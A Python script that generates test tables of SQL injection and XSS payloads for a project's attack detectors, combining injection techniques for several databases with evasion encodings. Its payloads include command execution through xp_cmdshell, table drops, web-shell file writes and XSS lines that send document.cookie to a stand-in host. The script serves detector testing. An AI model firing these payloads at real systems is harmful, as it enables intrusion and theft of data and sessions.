#!/usr/bin/env python3
"""gen-sqli-xss.py - write the generated positive tables for the SQL
injection and XSS detectors: tests/data/gen-sqli.txt and
tests/data/gen-xss.txt, one value a line, as it would arrive in a query
string (characters a URL cannot carry raw are percent-encoded; the
detectors decode them).

The values are combinations drawn from a grammar of each attack, written
here from the SQL dialects and the HTML tokenizer, not copied from any
list:
  SQL:  context closer (how the value leaves the literal it lands in:
        nothing, ', ", one to three ')' after either) x technique
        (boolean, error, UNION, stacked, time, inline, over MySQL,
        PostgreSQL, MSSQL, Oracle, SQLite) x suffix (nothing, a comment, or
        the balancing tail an automated tool adds: AND 'x'='x, AND (1=1)
        x obfuscation (comments or control whitespace as spaces, versioned
        comments, case, percent encoding).
  XSS:  landing context (text, after a quoted or unquoted attribute value,
        inside a tag, inside a script string, after </title> and the like)
        x vector (script-capable element, any element with an event
        handler, script URL in a URL attribute, style with script) x
        separator (space, '/', tab, newline, form feed, junk) x handler
        code x encoding (entities, percent, JS escapes).
Deterministic (seeded). Usage: tools/gen-sqli-xss.py [DIR] (default
tests/data)."""
import os
import random
import sys
import urllib.parse

rng = random.Random(20261204)


def num():
    return str(rng.randint(1000, 9999))


def rstr(k=4):
    return "".join(rng.choice("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ") for _ in range(k))


def hexs():
    return "0x" + "".join(rng.choice("0123456789abcdef") for _ in range(rng.choice([6, 8, 10])))


# ---- SQL ------------------------------------------------------------------

# (quote char, closing parens): where the value lands
CONTEXTS = [("", 0), ("", 1), ("", 2), ("", 3), ("'", 0), ("'", 1), ("'", 2),
            ("'", 3), ('"', 0), ('"', 1), ('"', 2), ("`", 1), ("%'", 0), ("%'", 1)]


def start_value():
    return rng.choice(["1", "2", num(), "-" + num(), "abc", "test", "0", ""])


def balance(q, p):
    """The tail that makes the rest of the original query parse again."""
    n = num()
    if q == "%'":
        return " AND '%'='"
    if q:
        s = rstr()
        cmp_ = rng.choice(["%s%s%s=%s%s%s" % (q, s, q, q, s, q),
                           "%s%s%s LIKE %s%s%s" % (q, s, q, q, s, q)])
        return " AND " + "(" * p + cmp_[:-1]
    return " AND " + "(" * p + "%s=%s" % (n, n)


def comment():
    return rng.choice(["-- -", "--", "#", "/*", "-- " + rstr(), "%00", ";--", "-- +", "--+"])


def cond():
    a = num()
    b = num()
    x = rstr()
    return rng.choice([
        "%s=%s" % (a, a), "%s>%s" % (a, str(int(a) - 1)), "%s<>%s" % (a, b),
        "'%s'='%s'" % (x, x), "%s IN (%s)" % (a, a), "%s BETWEEN %s AND %s" % (a, a, a),
        "ASCII(SUBSTRING((SELECT USER()),1,1))>64",
        "ORD(MID((SELECT IFNULL(CAST(DATABASE() AS CHAR),0x20)),1,1))>%d" % rng.randint(32, 127),
        "LENGTH(DATABASE())=%d" % rng.randint(1, 12),
        "(SELECT COUNT(*) FROM users)>0",
        "SUBSTR(version(),1,1)='5'",
    ])


def t_boolean(dbms):
    a = num()
    c = cond()
    return rng.choice([
        "AND %s" % c, "OR %s" % c, "AND NOT %s=%s" % (a, num()), "OR NOT %s=%s" % (a, num()),
        "AND %s=%s" % (a, a), "OR %s=%s" % (a, a), "&& %s=%s" % (a, a), "|| %s=%s" % (a, a),
        "AND MAKE_SET(%s,%s)" % (c, num()), "OR ELT(%s,%s)" % (c, num()),
        "AND ELT(%s,%s)" % (c, num()),
        "RLIKE (SELECT (CASE WHEN (%s) THEN 1 ELSE 0x28 END))" % c,
        "AND %s=(SELECT (CASE WHEN (%s) THEN %s ELSE (SELECT %s UNION SELECT %s) END))" % (a, c, a, num(), num()),
        "AND (SELECT (CASE WHEN (%s) THEN NULL ELSE CTXSYS.DRITHSX.SN(1,%s) END) FROM DUAL) IS NULL" % (c, a),
        "AND IIF(%s,1,1/0)" % c,
        "AND %s=(SELECT (CASE WHEN (%s) THEN %s ELSE 1/(SELECT 0) END))" % (a, c, a),
        "AND CASE WHEN %s THEN %s ELSE JSON(CHAR(%d,%d)) END" % (c, a, rng.randint(65, 90), rng.randint(65, 90)),
        "AND IF(%s,1,0)" % c, "AND %s NOT BETWEEN 0 AND %s" % (a, str(int(a) - 1)),
        "AND GREATEST(%s,%s)=%s" % (a, str(int(a) - 1), a),
        "AND %s LIKE %s" % (a, a), "OR 'x'='x'", "OR 1=1", "OR true", "AND 0",
        "AND (%s)" % c, "OR (%s)" % c, "XOR %s=%s" % (a, a),
        "AND %s IS NOT NULL" % a, "AND 1 REGEXP 1", "OR 2>1",
    ])


def t_error(dbms):
    a = num()
    c = cond()
    inner = "(SELECT (ELT(%s,1)))" % c
    mk = "CONCAT(%s,%s,%s)" % (hexs(), inner, hexs())
    if dbms == "mysql":
        return rng.choice([
            "AND EXTRACTVALUE(%s,CONCAT(0x5c,%s,%s,%s))" % (a, hexs(), inner, hexs()),
            "AND UPDATEXML(%s,CONCAT(0x2e,%s,%s,%s),%s)" % (a, hexs(), inner, hexs(), num()),
            "AND EXP(~(SELECT * FROM (SELECT %s)x))" % mk,
            "AND GTID_SUBSET(%s,%s)" % (mk, a),
            "AND JSON_KEYS((SELECT CONVERT((SELECT %s) USING utf8)))" % mk,
            "AND (SELECT %s FROM(SELECT COUNT(*),CONCAT(%s,%s,%s,FLOOR(RAND(0)*2))x FROM INFORMATION_SCHEMA.PLUGINS GROUP BY x)a)" % (a, hexs(), inner, hexs()),
            "AND (SELECT 2*(IF((SELECT * FROM (SELECT %s)s), 8446744073709551610, 8446744073709551610)))" % mk,
            "OR EXTRACTVALUE(%s,CONCAT(0x5c,(SELECT @@version)))" % a,
            "AND ROW(%s,%s)>(SELECT COUNT(*),CONCAT(%s,FLOOR(RAND(0)*2))x FROM (SELECT 1 UNION SELECT 2)a GROUP BY x)" % (a, num(), hexs()),
        ])
    if dbms == "pgsql":
        return rng.choice([
            "AND %s=CAST((CHR(113)||CHR(120))||(SELECT (CASE WHEN (%s) THEN 1 ELSE 0 END))::text||(CHR(113)) AS NUMERIC)" % (a, c),
            "OR %s=CAST(version() AS INT)" % a,
            "AND 1=CAST((SELECT current_user) AS int)",
        ])
    if dbms == "mssql":
        return rng.choice([
            "AND %s IN (SELECT (CHAR(113)+CHAR(120)+(SELECT (CASE WHEN (%s) THEN CHAR(49) ELSE CHAR(48) END))+CHAR(113)))" % (a, c),
            "AND %s=CONVERT(INT,(SELECT CHAR(113)+(SELECT (CASE WHEN (%s) THEN CHAR(49) ELSE CHAR(48) END))+CHAR(113)))" % (a, c),
            "AND %s=CONCAT(CHAR(113),(SELECT (CASE WHEN (%s) THEN CHAR(49) ELSE CHAR(48) END)),CHAR(113))" % (a, c),
            "AND 1=CONVERT(int,@@version)", "AND 1=CONVERT(int,(SELECT TOP 1 name FROM sysobjects))",
            "AND 1/0=1",
        ])
    if dbms == "oracle":
        return rng.choice([
            "AND %s=(SELECT UPPER(XMLType(CHR(60)||CHR(58)||CHR(113)||(SELECT (CASE WHEN (%s) THEN 1 ELSE 0 END) FROM DUAL)||CHR(62))) FROM DUAL)" % (a, c),
            "AND %s=UTL_INADDR.GET_HOST_ADDRESS(CHR(113)||(SELECT (CASE WHEN (%s) THEN 1 ELSE 0 END) FROM DUAL)||CHR(113))" % (a, c),
            "AND %s=CTXSYS.DRITHSX.SN(%s,(CHR(113)||(SELECT (CASE WHEN (%s) THEN 1 ELSE 0 END) FROM DUAL)))" % (a, a, c),
            "AND %s=DBMS_UTILITY.SQLID_TO_SQLHASH((CHR(113)||(SELECT (CASE WHEN (%s) THEN 1 ELSE 0 END) FROM DUAL)))" % (a, c),
        ])
    return rng.choice([
        "AND %s=CAST(sqlite_version() AS INT)" % a,
        "AND 1=(SELECT CASE WHEN (%s) THEN 1 ELSE load_extension(1) END)" % c,
    ])


def t_union(dbms):
    k = rng.randint(1, 8)
    cols = ["NULL"] * k
    pos = rng.randrange(k)
    mark = rng.choice([
        "CONCAT(%s,%s,%s)" % (hexs(), hexs(), hexs()),
        "CHAR(113)+CHAR(122)+CHAR(%d)" % rng.randint(97, 122),
        "CHR(113)||CHR(122)||CHR(%d)" % rng.randint(97, 122),
        hexs(), "'%s'" % rstr(8), "@@version", "version()", "user()", "database()",
        "group_concat(table_name)", "username", "password", "1", str(rng.randint(2, 20)),
    ])
    if rng.random() < 0.3:
        cols = [str(i + 1) for i in range(k)]
    cols[pos] = mark
    sel = rng.choice(["UNION ALL SELECT ", "UNION SELECT ", "UNION DISTINCT SELECT ",
                      "union select ", "UNION(SELECT "])
    body = sel + ",".join(cols)
    if sel.endswith("(SELECT "):
        body += ")"
    tail = rng.choice(["", "", "", " FROM DUAL", " FROM users", " FROM information_schema.tables",
                       " FROM information_schema.columns WHERE table_name=0x7573657273",
                       " INTO OUTFILE '/var/www/x.php'", " LIMIT 1", " FROM dual WHERE 1=1"])
    if dbms == "oracle" and not tail:
        tail = " FROM DUAL"
    lead = rng.choice(["", "", "", "LIMIT 1,1 ", "ORDER BY 1 "])
    return lead + body + tail


def t_stacked(dbms):
    a = num()
    d = rng.randint(1, 10)
    return rng.choice({
        "mysql": [";SELECT SLEEP(%d)" % d, ";SELECT BENCHMARK(5000000,MD5(%s))" % hexs(),
                  ";DROP TABLE users", ";INSERT INTO users(name) VALUES(0x61)",
                  ";UPDATE users SET pass=0x61 WHERE id=1"],
        "pgsql": [";SELECT PG_SLEEP(%d)" % d, ";SELECT pg_sleep(%d)" % d, ";COPY t FROM PROGRAM 'id'",
                  ";CREATE TABLE x(y text)", ";DROP TABLE users"],
        "mssql": [";WAITFOR DELAY '0:0:%d'" % d, ";EXEC xp_cmdshell 'whoami'",
                  ";EXEC master..xp_cmdshell 'ping 10.0.0.1'", ";DECLARE @x varchar(99)",
                  ";IF(%s=%s) WAITFOR DELAY '0:0:%d'" % (a, a, d), ";SHUTDOWN"],
        "oracle": [";SELECT DBMS_PIPE.RECEIVE_MESSAGE(CHR(65)||CHR(66),%d) FROM DUAL" % d,
                   ";BEGIN DBMS_LOCK.SLEEP(%d); END" % d],
        "sqlite": [";SELECT LIKE(CHAR(65,66,67),UPPER(HEX(RANDOMBLOB(500000000/2))))",
                   ";SELECT sqlite_version()", ";ATTACH DATABASE '/tmp/x.php' AS x"],
    }[dbms])


def t_time(dbms):
    a = num()
    d = rng.randint(1, 10)
    c = cond()
    return rng.choice({
        "mysql": ["AND SLEEP(%d)" % d, "OR SLEEP(%d)" % d, "AND (SELECT %s FROM (SELECT(SLEEP(%d)))%s)" % (a, d, rstr()),
                  "OR (SELECT %s FROM (SELECT(SLEEP(%d)))%s)" % (a, d, rstr()),
                  "AND %s=BENCHMARK(5000000,MD5(%s))" % (a, hexs()), "RLIKE SLEEP(%d)" % d,
                  "AND IF(%s,SLEEP(%d),0)" % (c, d), "AND (SELECT IF(%s,SLEEP(%d),0))" % (c, d),
                  "XOR(IF(NOW()=SYSDATE(),SLEEP(%d),0))" % d, "AND SLEEP(%d)=0" % d,
                  "AND ELT(%s,SLEEP(%d))" % (c, d), "AND MAKE_SET(%s,SLEEP(%d))" % (c, d),
                  "AND 0=BENCHMARK(10000000,SHA1(1))", "OR IF(1=1,SLEEP(%d),0)" % d,
                  "AND GET_LOCK('%s',%d)" % (rstr(), d)],
        "pgsql": ["AND %s=(SELECT %s FROM PG_SLEEP(%d))" % (a, a, d), "OR %s=(SELECT %s FROM PG_SLEEP(%d))" % (a, a, d),
                  "AND %s=(SELECT COUNT(*) FROM GENERATE_SERIES(1,5000000))" % a,
                  "AND (SELECT CASE WHEN (%s) THEN pg_sleep(%d) ELSE pg_sleep(0) END) IS NULL" % (c, d),
                  "||pg_sleep(%d)" % d],
        "mssql": ["WAITFOR DELAY '0:0:%d'" % d, "AND %s=(SELECT COUNT(*) FROM sysusers AS sys1,sysusers AS sys2,sysusers AS sys3)" % a,
                  "IF(%s) WAITFOR DELAY '0:0:%d'" % (c, d), "WAITFOR TIME '23:59:59'"],
        "oracle": ["AND %s=DBMS_PIPE.RECEIVE_MESSAGE(CHR(%d)||CHR(%d),%d)" % (a, rng.randint(65, 90), rng.randint(65, 90), d),
                   "OR %s=DBMS_PIPE.RECEIVE_MESSAGE(CHR(65),%d)" % (a, d),
                   "AND %s=(SELECT COUNT(*) FROM ALL_USERS T1,ALL_USERS T2,ALL_USERS T3,ALL_USERS T4)" % a],
        "sqlite": ["AND %s=LIKE(CHAR(65,66,67,68),UPPER(HEX(RANDOMBLOB(500000000/2))))" % a,
                   "AND %s=RANDOMBLOB(1000000000)" % a],
    }[dbms])


def t_inline(dbms):
    c = cond()
    return rng.choice([
        "(SELECT CONCAT(%s,(ELT(%s,1)),%s))" % (hexs(), c, hexs()),
        "(SELECT CHAR(113)+(SELECT (CASE WHEN (%s) THEN CHAR(49) ELSE CHAR(48) END))+CHAR(113))" % c,
        "(SELECT (CASE WHEN (%s) THEN 1 ELSE (SELECT 1 UNION SELECT 2) END))" % c,
        "(SELECT (CHR(113)||(SELECT (CASE WHEN (%s) THEN 1 ELSE 0 END))::text||CHR(113)))" % c,
        "(SELECT %s FROM (SELECT(SLEEP(5)))a)" % num(),
        "(CASE WHEN (%s) THEN %s ELSE NULL END)" % (c, num()),
        "IF(%s,1,(SELECT 1 UNION SELECT 2))" % c,
    ])


TECHS = [t_boolean, t_error, t_union, t_stacked, t_time]
DBMS = ["mysql", "mysql", "mysql", "pgsql", "mssql", "oracle", "sqlite"]


def obfuscate(s):
    r = rng.random()
    if r < 0.35:
        return s
    if r < 0.45:
        return s.replace(" ", "/**/")
    if r < 0.52:
        return s.replace(" ", "\n")
    if r < 0.58:
        return s.replace(" ", "\t")
    if r < 0.62:
        return s.replace(" ", rng.choice(["\r\n", "\x0b", "\x0c", "\xa0"]))
    if r < 0.68:
        return "".join(ch.upper() if rng.random() < 0.5 else ch.lower() for ch in s)
    if r < 0.74:
        out = []
        for w in s.split(" "):
            if w.isalpha() and w.upper() in ("UNION", "SELECT", "AND", "OR", "FROM", "WHERE", "SLEEP"):
                w = "/*!%s%s*/" % (rng.choice(["", "50000", "12345", "0"]), w)
            out.append(w)
        return " ".join(out)
    if r < 0.80:
        return s.replace(" ", "/*%s*/" % rstr())
    if r < 0.85:
        return s.replace(" ", "#%s\n" % rstr()) if "#" not in s else s
    if r < 0.88:
        return s.replace("=", " LIKE ") if "'" not in s else s
    if r < 0.91:
        # comments inside keywords (the second judging pass joins them)
        out = []
        for w in s.split(" "):
            if w.isalpha() and len(w) > 3 and w.upper() in ("UNION", "SELECT", "SLEEP", "WHERE", "FROM"):
                k = rng.randint(1, len(w) - 1)
                w = w[:k] + "/**/" + w[k:]
            out.append(w)
        return " ".join(out)
    if r < 0.94:
        return s.replace(" ", "--%s\n" % rstr()) if "-- " not in s else s
    if r < 0.97:
        return s.replace(" AND ", " && ").replace(" OR ", " || ")
    return s.replace(" ", "  ")


def sqli_one():
    q, p = rng.choice(CONTEXTS)
    dbms = rng.choice(DBMS)
    tech = rng.choice(TECHS + [t_inline] if (q or p) else TECHS + [t_inline])
    body = tech(dbms)
    if tech is t_inline:
        # inline query: replaces the value or is concatenated into it
        if q:
            c = q[-1]  # %' closes with '
            v = rng.choice(["%s||%s||%s" % (q, body, c), "%s+%s+%s" % (q, body, c),
                            "%s AND %s=%s AND %s1%s=%s1" % (q, body, body, c, c, c)])
        else:
            v = body
        return v
    closer = q + ")" * p
    lead = start_value() + closer
    sep = "" if body.startswith(";") or body.startswith("||") else " "
    v = lead + sep + body
    tail = rng.random()
    if tech is t_stacked or tech is t_union:
        v += rng.choice(["-- -", "--", "#", ";--", "", "-- " + rstr(), "/*"]) if tail < 0.85 else ""
    elif tail < 0.45:
        v += balance(q, p)
    elif tail < 0.9:
        v += comment() if rng.random() < 0.9 else ""
    return obfuscate(v)


def encode(v, form=True):
    """As the value travels in a query string. A no-break space travels as
    the single latin1 byte %A0, as tools send it."""
    return _encode(v, form).replace("%C2%A0", "%A0").replace("%25C2%25A0", "%25A0")


def _encode(v, form):
    r = rng.random()
    if r < 0.5:
        # what a browser or tool leaves readable, the rest encoded
        return urllib.parse.quote(v, safe="'\"()=,;:/*<>!@$-_.~`|[]{}^")
    if r < 0.8 and form:
        return urllib.parse.quote_plus(v, safe="'\"()=,*")
    if r < 0.95:
        return urllib.parse.quote(v, safe="")
    return urllib.parse.quote(urllib.parse.quote(v, safe=""), safe="")


def gen_sqli(n):
    out = set()
    while len(out) < n:
        v = sqli_one()
        out.add(encode(v))
    return sorted(out)


# ---- XSS ------------------------------------------------------------------

CODE = ["alert&#40;1&#41;", "&#97;lert(1)", "alert&lpar;1&rpar;", "top[/al/.source+/ert/.source](1)",
        "window['ale'+'rt'](document['dom'+'ain'])", "eval(String.fromCharCode(97,108,101,114,116,40,49,41))",
        "alert(1)", "alert`1`", "prompt(document.domain)", "confirm(1)", "alert(document.cookie)",
        "eval(atob('YWxlcnQoMSk='))", "top['al'+'ert'](1)", "window.onerror=alert;throw 1",
        "[1].find(alert)", "(alert)(1)", "al\\u0065rt(1)", "import('//x.example/a.js')",
        "fetch('//x.example/?'+document.cookie)", "location='//x.example/?c='+document.cookie",
        "self[`alert`](1)", "Function('alert(1)')()", "setTimeout('alert(1)')", "print()",
        "this.src='//x.example/'+document.cookie", "new Image().src='//x.example/?'+document.cookie"]

EVENTS = [("img", "src=x onerror"), ("svg", "onload"), ("body", "onload"), ("body", "onpageshow"),
          ("details", "open ontoggle"), ("input", "autofocus onfocus"), ("select", "autofocus onfocus"),
          ("textarea", "autofocus onfocus"), ("video", "src=x onerror"), ("audio", "src=x onerror"),
          ("iframe", "onload"), ("marquee", "onstart"), ("x", "onpointerover"), ("x", "onclick"),
          ("a", "onmouseover"), ("div", "onmouseenter"), ("p", "onauxclick"), ("style", "onload"),
          ("object", "onerror"), ("embed", "onload"), ("xss", "onanimationstart"), ("form", "onsubmit"),
          ("button", "onfocusin"), ("math", "onclick"), ("keygen", "autofocus onfocus"),
          ("img", "src=1 onload"), ("svg", "onbegin"), ("image", "src=x onerror"), ("custom-el", "onbeforecopy"),
          ("table", "background=x onerror"), ("isindex", "type=image src=1 onerror"),
          ("body", "onresize"), ("body", "onhashchange"), ("svg", "onmousemove"),
          ("a", "href=# onfocus"), ("input", "type=text onbeforeinput"), ("div", "draggable=true ondragstart"),
          ("iframe", "src=//x.example onload"), ("link", "rel=stylesheet href=x onerror"),
          ("script", "src=x onerror"), ("x", "tabindex=1 onfocusin"), ("summary", "onclick")]

URLS = [("a", "href"), ("iframe", "src"), ("form", "action"), ("object", "data"), ("embed", "src"),
        ("button", "formaction"), ("math", "href"), ("area", "href"), ("base", "href"), ("frame", "src"),
        ("input type=image", "formaction"), ("svg><a", "xlink:href"), ("isindex", "action")]


def js_url(code):
    s = rng.choice(["javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", " javascript:",
                    "&#106;avascript:", "&#x6a;&#x61;vascript&colon;", "javascript&#58;",
                    "jav&#x09;ascript:", "&#0000106&#0000097vascript:", "vbscript:", "javascript&colon;",
                    "%6Aavascript:", "\x01javascript:", "javas&Tab;cript:"])
    if s == "vbscript:":
        return s + "msgbox(1)"
    return s + code


def sep():
    return rng.choice([" ", " ", "/", "\t", "\n", "\x0c", "/x/", " /", "\r\n", "//", "/\"/", "\n\n"])


def quote_val(code):
    q = rng.choice(["", '"', "'"])
    if q == "" and " " in code:
        q = '"'
    return q + code + q


def end_tag():
    return rng.choice([">", ">", ">", "", " ", "//", "<", "><!--", " x=\""])


def xss_vector():
    r = rng.random()
    code = rng.choice(CODE)
    if r < 0.45:
        tag, ev = rng.choice(EVENTS)
        tag = tag if rng.random() < 0.7 else "".join(c.upper() if rng.random() < 0.5 else c for c in tag)
        evs = ev.split(" ")
        # event handler last; separators between every attribute
        s = "<" + tag
        for a in evs[:-1]:
            s += sep() + a
        name = evs[-1]
        if rng.random() < 0.2:
            name = "".join(c.upper() if rng.random() < 0.5 else c for c in name)
        eq = rng.choice(["=", "=", " = ", "=\n"])
        s += sep() + name + eq + quote_val(code) + end_tag()
        return s
    if r < 0.62:
        tag, attr = rng.choice(URLS)
        u = js_url(code)
        if "data" in attr or rng.random() < 0.15:
            u = rng.choice([u, "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
                            "data:text/html,<script>alert(1)</script>", "data:image/svg+xml;base64,PHN2Zz4="])
        s = "<%s %s=%s" % (tag, attr, quote_val(u) if '"' not in u else "'" + u + "'")
        s += rng.choice([">x</a>", ">", ">click", "", "><input type=submit>", ">XSS</math>"])
        return s
    if r < 0.74:
        return rng.choice([
            "<script>%s</script>" % code, "<script src=//x.example/a.js></script>",
            "<ScRiPt>%s</sCrIpT>" % code, "<script\n>%s</script\n>" % code,
            "<script>%s//" % code, "<script/src=data:,%s>" % code, "<script x>%s</script x>" % code,
            "<scr<script>ipt>%s</scr</script>ipt>" % code,
            "<iframe srcdoc=\"&lt;script&gt;%s&lt;/script&gt;\">" % code,
            "<iframe srcdoc='<svg onload=%s>'>" % code,
            "<meta http-equiv=\"refresh\" content=\"0;url=javascript:%s\">" % code,
            "<meta http-equiv=refresh content='0; url=data:text/html,<script>alert(1)</script>'>",
            "<link rel=import href=//x.example/a.html>", "<base href=//x.example/>",
            "<style>@import 'javascript:%s';</style>" % code,
            "<div style=\"background:url(javascript:%s)\">" % code,
            "<div style=\"width:expression(%s)\">" % code, "<style>*{behavior:url(x.htc)}</style>",
            "<object data=//x.example/x.swf>", "<embed src=//x.example/x.swf>",
            "<svg><script>%s</script>" % code, "<math><mtext><table><mglyph><style><img src=x onerror=%s>" % code,
            "<svg><animate onbegin=%s attributeName=x dur=1s>" % code,
            "<svg><set attributeName=href to=javascript:%s>" % code,
            "<noscript><p title=\"</noscript><img src=x onerror=%s>\">" % code,
            "<iframe src=\"//x.example\"></iframe>", "<frameset onload=%s>" % code,
            "<xmp><img src=x onerror=%s></xmp>" % code,
        ])
    if r < 0.88:
        # attribute break without a new tag
        q = rng.choice(['"', "'", ""])
        ev = rng.choice(["onmouseover", "onfocus", "onclick", "onpointerenter", "onanimationstart",
                         "onmouseenter", "onfocusin", "onerror", "onload"])
        extra = rng.choice(["", " autofocus", " style=animation-name:x", " tabindex=1", " x="])
        return "%s%s%s=%s%s%s" % (q, sep(), ev, quote_val(code), extra, rng.choice(["", q, " x=" + q, "//"]))
    # script-string contexts
    return rng.choice([
        "';%s//" % code, "\";%s//" % code, "'-%s-'" % code, "\"-%s-\"" % code,
        "'+%s+'" % code, "\\';%s//" % code, "');%s;//" % code, "\"});%s;//" % code,
        "</script><script>%s</script>" % code, "</script><svg onload=%s>" % code,
        "${%s}" % code, "`;%s;`" % code, "'||%s||'" % code, "';%s;var x='" % code,
        "\";%s;var x=\"" % code, "1;%s" % code if code.startswith("alert") else "';%s//" % code,
    ])


def xss_one():
    v = xss_vector()
    ctx = rng.random()
    if ctx < 0.5:
        pass
    elif ctx < 0.8 and v.startswith("<"):
        v = rng.choice(['">', "'>", ">", '"/>', "</title>", "</textarea>", "-->", "</style>",
                        "]]>", "</noscript>", "</option></select>", "\"></a>", "x\">",
                        "</script>", "'\">", "\"'>", "*/-->", "</iframe>", "\");</script>"]) + v
    else:
        v = rng.choice(["", "x", "test", "1"]) + v
    return v


def xss_encode(v):
    r = rng.random()
    if r < 0.5:
        return urllib.parse.quote(v, safe="'\"()=,;:/*<>!@$-_.~`|[]{}^&#")
    if r < 0.8:
        return urllib.parse.quote(v, safe="")
    if r < 0.87:
        return urllib.parse.quote(urllib.parse.quote(v, safe=""), safe="")
    if r < 0.93:
        return urllib.parse.quote(v.replace("<", "\\u003c").replace(">", "\\u003e"), safe="")
    return urllib.parse.quote(v.replace("<", "&lt;").replace(">", "&gt;"), safe="")


def gen_xss(n):
    out = set()
    while len(out) < n:
        out.add(xss_encode(xss_one()))
    return sorted(out)


def main():
    d = sys.argv[1] if len(sys.argv) > 1 else "tests/data"
    for name, vals in (("gen-sqli.txt", gen_sqli(3000)), ("gen-xss.txt", gen_xss(2000))):
        with open(os.path.join(d, name), "w", encoding="utf-8") as f:
            for v in vals:
                f.write(v + "\n")
        print("%s: %d values" % (name, len(vals)))


if __name__ == "__main__":
    main()
